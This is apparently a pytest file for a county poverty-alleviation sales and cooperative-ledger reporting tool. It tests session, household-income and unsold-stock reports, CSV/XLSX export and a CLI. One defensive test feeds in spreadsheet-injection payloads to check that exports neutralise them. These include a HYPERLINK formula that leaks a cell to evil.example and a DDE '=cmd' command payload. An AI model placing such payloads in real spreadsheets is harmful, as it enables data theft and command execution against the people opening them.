"""County reports on a small hand-built dataset, with exact figures; CSV/XLSX writers; CLI smoke."""

from __future__ import annotations

import asyncio
import io
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, update
from sqlalchemy.ext.asyncio import AsyncConnection
from typer.testing import CliRunner

from bangfu.enums import AttributionConfidence, CertificationStatus, HostKind, HouseholdCategory, JournalKind, UnitType
from bangfu.i18n import set_lang
from bangfu.ledger import (
    Journal,
    Posting,
    household_account,
    household_advance_account,
    household_bonus_account,
    journal_uid,
    post,
    receivable_account,
    retention_account,
)
from bangfu.models import (
    Certification,
    Host,
    Household,
    LineAttribution,
    LiveMinuteStat,
    LiveSession,
    MemberAccount,
    OrderLine,
    PurchasingUnit,
    SurplusDistribution,
    UnitTarget,
)
from bangfu.reports import ReportRequest, build_report, parse_period
from bangfu.reports.base import Report
from bangfu.reports.writers import to_csv, to_xlsx
from bangfu.store import make_engine
from tests.workers.reports_seed import add_lot, add_order, add_refund, at, base, new_id
from workers.alerts import detect_unsold

NOW = at("2026-11-05T00:00")
OCT = parse_period("2026-10", now=NOW)


def _journal(source: str, kind: JournalKind, when: str, legs: list[tuple[object, int]]) -> Journal:
    return Journal(
        uid=journal_uid(source),
        kind=kind,
        source_event=source,
        occurred_at=at(when),
        postings=tuple(Posting(account, amount) for account, amount in legs),  # type: ignore[arg-type]
    )


async def _seed(conn: AsyncConnection) -> dict[str, int]:
    ids = await base(conn)
    shop, coop = ids["shop"], ids["coop"]
    host = await new_id(conn, Host, name="县长", kind=HostKind.OFFICIAL, platform="douyin", author_id="A1")
    session = await new_id(
        conn,
        LiveSession,
        shop_id=shop,
        room_id="R1",
        host_id=host,
        started_at=at("2026-10-10T11:00"),
        ended_at=at("2026-10-10T13:00"),
        views=2000,
        unique_viewers=500,
        peak_online=300,
        total_watch_seconds=60000,
        ad_spend_fen=10000,
    )
    for minute, online in enumerate((100, 200, 300)):
        await new_id(
            conn,
            LiveMinuteStat,
            session_id=session,
            minute_at=at("2026-10-10T11:00") + timedelta(minutes=minute),
            online=online,
        )
    sku = ids["sku"]
    _, l1 = await add_order(conn, shop, "O1", at("2026-10-10T11:10"), [10000], sku=sku, buyer="b1", quantity=2)
    _, l2 = await add_order(conn, shop, "O2", at("2026-10-10T11:20"), [20000], sku=sku, buyer="b1", quantity=4)
    _, l3 = await add_order(conn, shop, "O3", at("2026-10-10T12:30"), [5000], sku=sku, buyer="b2")
    confidences = (AttributionConfidence.EXACT, AttributionConfidence.LINK, AttributionConfidence.INFERRED)
    for line, confidence in zip((l1[0], l2[0], l3[0]), confidences, strict=True):
        await new_id(
            conn,
            LineAttribution,
            order_line_id=line,
            shop_id=shop,
            session_id=session,
            host_id=host,
            confidence=confidence,
            rule="room_id",
            line_version=1,
        )
    await add_refund(conn, shop, "O1", l1[0], 5000, at("2026-10-12T00:00"))
    await new_id(
        conn,
        Certification,
        product_id=ids["product"],
        body="县乡村振兴局",
        number="2026-001",
        valid_from=date(2026, 1, 1),
        valid_to=date(2026, 12, 31),
        status=CertificationStatus.VALID,
    )

    h1 = await new_id(
        conn,
        Household,
        cooperative_id=coop,
        member_no="M01",
        head_name="卓玛",
        category=HouseholdCategory.LIFTED,
        village="一村",
    )
    h2 = await new_id(
        conn,
        Household,
        cooperative_id=coop,
        member_no="M02",
        head_name="扎西",
        category=HouseholdCategory.MONITORED,
        village="二村",
    )
    h3 = await new_id(
        conn,
        Household,
        cooperative_id=coop,
        member_no="M03",
        head_name="才让",
        category=HouseholdCategory.ORDINARY,
        village="一村",
    )
    await new_id(
        conn, MemberAccount, household_id=h1, capital_fen=100000, reserve_share_fen=2000, subsidy_share_fen=3000
    )

    recv, keep = receivable_account(shop), retention_account(coop)
    line1, line2 = f"order-line:{shop}:{l1[0]}:v1", f"order-line:{shop}:{l2[0]}:v1"
    await post(
        conn,
        [
            # Line 1: household 1 gets 6000 rebate + 500 bonus; half refunded (3000 + 250 back).
            _journal(
                f"{line1}:sale",
                JournalKind.SALE,
                "2026-10-10T11:10",
                [(recv, 10000), (household_account(h1), -6000), (household_bonus_account(h1), -500), (keep, -3500)],
            ),
            _journal(
                f"{line1}:refund:1",
                JournalKind.REFUND,
                "2026-10-12T00:00",
                [(recv, -5000), (household_account(h1), 3000), (household_bonus_account(h1), 250), (keep, 1750)],
            ),
            # Line 2: household 2's guarantee recovered 3000; household 3 credited 2000.
            _journal(
                f"{line2}:sale",
                JournalKind.SALE,
                "2026-10-10T11:20",
                [(recv, 20000), (household_advance_account(h2), -3000), (household_account(h3), -2000), (keep, -15000)],
            ),
            # Household 3's credit reversed by a later adjustment of the line (a refund in October).
            _journal(
                f"{line2}:refund:2",
                JournalKind.REFUND,
                "2026-10-20T00:00",
                [(recv, -2000), (household_account(h3), 2000)],
            ),
            # November income is outside the October reports.
            _journal(
                f"{line2}:trueup:x",
                JournalKind.TRUE_UP,
                "2026-11-02T00:00",
                [(keep, 700), (household_account(h1), -700)],
            ),
            _journal(
                f"surplus:{coop}:2026",
                JournalKind.SURPLUS,
                "2026-12-31T00:00",
                [(keep, 1000), (household_account(h1), -1000)],
            ),
        ],
    )
    from sqlalchemy import select

    from bangfu.models import Journal as JournalRow

    surplus_journal = await conn.scalar(select(JournalRow.id).where(JournalRow.source_event == f"surplus:{coop}:2026"))
    await new_id(
        conn,
        SurplusDistribution,
        cooperative_id=coop,
        year=2026,
        policy_version=1,
        distributable_fen=1000,
        patronage_fen=1000,
        shares_fen=0,
        journal_id=surplus_journal,
        plan={},
    )

    u1 = await new_id(conn, PurchasingUnit, code="U1", name="县卫健委", unit_type=UnitType.GOVERNMENT)
    u2 = await new_id(conn, PurchasingUnit, code="U2", name="县一中", unit_type=UnitType.SCHOOL)
    await conn.execute(
        insert(UnitTarget).values(
            [{"unit_id": u1, "year": 2026, "target_fen": 100000}, {"unit_id": u2, "year": 2026, "target_fen": 10000}]
        )
    )
    # U1: a certified line and a line without a product, shipping 800, a whole-order refund of 5000
    # shared over the lines by amount (3750 and 1250). U2: one uncertified and one certified order.
    _, (u1_certified, _) = await add_order(
        conn, shop, "U1-1", at("2026-03-01T04:00"), [30000, 10000], unit=u1, post_fee=800
    )
    await conn.execute(update(OrderLine).where(OrderLine.id == u1_certified).values(sku_id=sku))
    await add_refund(conn, shop, "U1-1", None, 5000, at("2026-03-05T00:00"))
    await add_order(conn, shop, "U2-1", at("2026-05-01T04:00"), [5000], unit=u2)
    await add_order(conn, shop, "U2-2", at("2026-05-02T04:00"), [6000], unit=u2, sku=sku)
    await add_order(conn, shop, "U2-old", at("2025-05-01T04:00"), [9000], unit=u2)

    # Received 2025-11-20 with 365 days of shelf life: 15 days left at NOW, 7 units sold in 30 days.
    lot = await add_lot(conn, sku, ids["supplier"], date(2025, 11, 20), 500, 400)
    return ids | {"session": session, "h1": h1, "h2": h2, "h3": h3, "lot": lot}


async def _report(url: str, name: str, **kw: object) -> Report:
    engine = make_engine(url)
    try:
        async with engine.connect() as conn:
            period = kw.pop("period", OCT)
            return await build_report(conn, ReportRequest(name, period, NOW, **kw))  # type: ignore[arg-type]
    finally:
        await engine.dispose()


@pytest.fixture
async def seeded(db_url: str) -> dict[str, int]:
    engine = make_engine(db_url)
    try:
        async with engine.begin() as conn:
            ids = await _seed(conn)
            await detect_unsold(conn, now=NOW)
    finally:
        await engine.dispose()
    return ids


async def test_session_review(db_url: str, seeded: dict[str, int]) -> None:
    report = await _report(db_url, "session-review")
    (row,) = report.rows
    assert row["gmv"] == 35000 and row["orders"] == 3 and row["buyers"] == 2 and row["units"] == 7
    assert row["refunds"] == 5000 and row["refund_rate"] == Decimal("0.1429")
    assert row["gpm"] == 17500  # ¥350 / 2000 views x 1000 = ¥175.00
    assert row["conversion"] == Decimal("0.0015")
    assert row["uv_value"] == 70 and row["acu"] == 200 and row["pcu"] == 300 and row["avg_watch_s"] == 120
    assert row["roi"] == Decimal("3.50") and row["duration_min"] == 120
    assert row["orders_exact"] == 2 and row["orders_inferred"] == 1
    # 6000 + 500 - 3000 - 250 (line 1) + 3000 + 2000 - 2000 + 700 (line 2, its November true-up too).
    assert row["net_households"] == 6950
    assert row["start"] == "2026-10-10 19:00" and row["host"] == "县长"
    products = await _report(db_url, "session-review", session_id=seeded["session"])
    assert [(r["product"], r["units"], r["gmv"]) for r in products.rows] == [("牦牛肉", 7, 35000)]


async def test_households_driven_and_income(db_url: str, seeded: dict[str, int]) -> None:
    report = await _report(db_url, "households-driven")
    by = {r["category"]: r for r in report.rows}
    assert (by["脱贫户"]["households"], by["脱贫户"]["income"]) == (1, 3250)
    assert (by["监测户"]["households"], by["监测户"]["income"]) == (1, 3000)
    assert by["一般农户"]["households"] == 0
    assert report.totals == {"category": "合计", "households": 2, "income": 6250, "per_household": 3125}
    assert report.summary[0] == "带动 2 户、增收 0.01 万元" and "含净收入为负的农户" in report.summary[1]

    income = await _report(db_url, "household-income")
    assert [(r["member_no"], r["name"], r["income"]) for r in income.rows] == [
        ("M01", "卓*", 3250),
        ("M02", "扎*", 3000),
    ]
    quarter = await _report(db_url, "household-income", period=parse_period(None, "2026-10-01", "2026-11-30", now=NOW))
    h1 = next(r for r in quarter.rows if r["member_no"] == "M01")
    assert (h1["m:2026-10"], h1["m:2026-11"], h1["income"]) == (3250, 700, 3950)


async def test_member_accounts_reserved_share_unsold_and_sales_ledger(db_url: str, seeded: dict[str, int]) -> None:
    members = await _report(db_url, "member-accounts", period=parse_period("2026", now=NOW))
    m1 = members.rows[0]
    assert (m1["member_no"], m1["capital"], m1["reserve_share"], m1["subsidy_share"]) == ("M01", 100000, 2000, 3000)
    assert (m1["volume"], m1["surplus_returned"]) == (3950, 1000)

    reserved = await _report(db_url, "reserved-share", period=parse_period("2026", now=NOW))
    # Executed is the 帮扶 part only: lines of products certified on the day of sale.
    assert [(r["rank"], r["code"], r["executed"], r["rate"]) for r in reserved.rows] == [
        (1, "U2", 6000, Decimal("0.6000")),
        (2, "U1", 26250, Decimal("0.2625")),
    ]
    assert [(r["uncertified"], r["order_level"], r["purchases"]) for r in reserved.rows] == [
        (5000, 0, 11000),
        (8750, 800, 40800 - 5000),
    ]
    totals = reserved.totals
    assert totals is not None
    assert totals["executed"] + totals["uncertified"] + totals["order_level"] == totals["purchases"]

    unsold = await _report(db_url, "unsold")
    (row,) = unsold.rows
    assert (row["remaining"], row["expires_on"], row["days_left"], row["sold"]) == (400, "2026-11-20", 15, 7)
    assert row["left_at_end"] == 397 and row["value"] == 397 * 10000  # 7 x 15 // 30 = 3 sell before the end
    assert row["status"] == "临期滞销" and unsold.summary[0].startswith("只有同时满足以下条件的批次才会预警")

    ledger = await _report(db_url, "sales-ledger")
    assert [(r["month"], r["channel"], r["certified"], r["gross"], r["refunds"], r["net"]) for r in ledger.rows] == [
        ("2026-10", "直播", "是", 35000, 5000, 30000)
    ]
    assert ledger.rows[0]["supplier"] == "玛多牦牛合作社" and ledger.rows[0]["county"] == "玛多县"


async def test_writers_csv_bom_and_exact_xlsx(db_url: str, seeded: dict[str, int]) -> None:
    report = await _report(db_url, "session-review")
    data = to_csv(report)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("场次,标题,直播间,主播,开播时间")
    assert ",350.00," in text and ",175.00," in text and "14.29%" in text
    sheet = load_workbook(io.BytesIO(to_xlsx(report))).active
    assert sheet is not None
    assert sheet["A1"].value == report.title and "金额单位：元" in str(sheet["A2"].value)
    headers = [c.value for c in sheet[3]]
    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref is not None and sheet.auto_filter.ref.startswith("A3:")
    gmv = sheet.cell(row=4, column=headers.index("成交金额(GMV)") + 1)
    assert Decimal(str(gmv.value)) == Decimal("350.00") and gmv.number_format == "#,##0.00"
    assert Decimal(str(sheet.cell(row=4, column=headers.index("千次观看成交(GPM)") + 1).value)) == Decimal("175")
    # Chinese headers get wide enough columns: "成交金额(GMV)" is 4 wide characters and 5 narrow ones.
    assert sheet.column_dimensions["G"].width == 4 * 2 + 5 + 2
    set_lang("en")
    try:
        english = await _report(db_url, "households-driven")
    finally:
        set_lang("zh")
    assert english.columns[0].header == "Category" and english.summary[0].startswith("2 households driven")


def test_cli_households_driven_csv(db_url: str, tmp_path: Path) -> None:
    from bangfu.cli.app import app

    async def seed() -> None:
        engine = make_engine(db_url)
        try:
            async with engine.begin() as conn:
                await _seed(conn)
        finally:
            await engine.dispose()

    asyncio.run(seed())
    out = tmp_path / "driven.csv"
    args = ["report", "households-driven", "--period", "2026-10", "--format", "csv", "--out", str(out), "--db", db_url]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8-sig")
    assert text.splitlines()[0] == "类别,户数,收入,户均增收"
    assert "合计,2,62.50,31.25" in text and "带动 2 户、增收 0.01 万元" in text
    table = CliRunner().invoke(app, ["report", "households-driven", "--period", "2026-10", "--db", db_url])
    assert table.exit_code == 0 and "带动 2 户" in table.stdout
    bad = CliRunner().invoke(app, ["report", "households-driven", "--period", "2026-13", "--db", db_url])
    assert bad.exit_code == 2


def test_exports_neutralise_formula_text_and_keep_numbers_numbers() -> None:
    """Issue 12 item 8: a household named ``=HYPERLINK("http://evil.example/?leak="&B2,"x")`` came back
    as a live formula in XLSX and raw in CSV. Text starting with = + - @ tab or CR gets a leading
    quote (OWASP CSV injection) and XLSX text cells are strings; money and counts stay numbers."""
    from bangfu.reports.base import Column

    evil = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
    texts = [evil, "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1", "plain", "-"]
    report = Report(
        name="injection",
        title="=cmd|' /C calc'!A0",
        columns=[Column("name", "Name"), Column("amount", "Amount", "money"), Column("n", "Count", "int")],
        rows=[{"name": text, "amount": -1250, "n": -3} for text in texts],
        totals={"name": "Total", "amount": -1250 * len(texts), "n": -3 * len(texts)},
        summary=["@evil summary"],
    )
    import csv

    table = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in table[1 : 1 + len(texts)]] == [t if t in ("plain", "-") else "'" + t for t in texts]
    assert all(row[1:] == ["-12.50", "-3"] for row in table[1 : 1 + len(texts)])  # numbers untouched
    assert table[-1] == ["'@evil summary"]
    sheet = load_workbook(io.BytesIO(to_xlsx(report))).active
    assert sheet is not None
    assert sheet["A1"].value == "'=cmd|' /C calc'!A0" and sheet["A1"].data_type == "s"
    for offset, text in enumerate(texts):
        name, amount, count = sheet[4 + offset][:3]
        assert name.data_type == "s"
        assert name.value == (text if text in ("plain", "-") else "'" + text)
        assert amount.data_type == "n" and Decimal(str(amount.value)) == Decimal("-12.50")
        assert count.data_type == "n" and count.value == -3
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_households_driven_counts_earning_households_and_nets_every_household() -> None:
    """One definition for a month and a year: negatives stay in the income, out of the count."""
    from bangfu.reports.households import driven, net_by_household

    income = {1: {"2026-11": 5000, "2026-12": -800}, 2: {"2026-12": 300}, 3: {"2026-11": 1000}}
    months = {m: driven(net_by_household(income, [m])) for m in ("2026-11", "2026-12")}
    year = driven(net_by_household(income))
    assert (months["2026-12"].households, months["2026-12"].income, months["2026-12"].negative) == (1, -500, 1)
    assert (months["2026-11"].households, months["2026-11"].income) == (2, 6000)
    assert year.income == sum(m.income for m in months.values()) == 5500
    assert year.households == 3 and year.per_household == 1833
